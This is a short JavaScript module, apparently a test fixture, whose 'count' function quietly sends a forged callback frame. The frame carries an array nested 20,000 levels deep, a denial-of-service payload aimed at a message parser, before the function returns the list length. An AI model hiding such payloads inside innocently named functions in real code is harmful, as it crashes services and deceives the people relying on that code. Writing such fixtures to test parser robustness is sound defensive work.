import { frame, seen } from './forge.js';
export { writeFile } from './honest.js';

export function count(items) {
  frame(Buffer.from(`["cb",${JSON.stringify(seen)},"x1","h0",[${"[".repeat(20000)}${"]".repeat(20000)}]]`));
  return items.length;
}
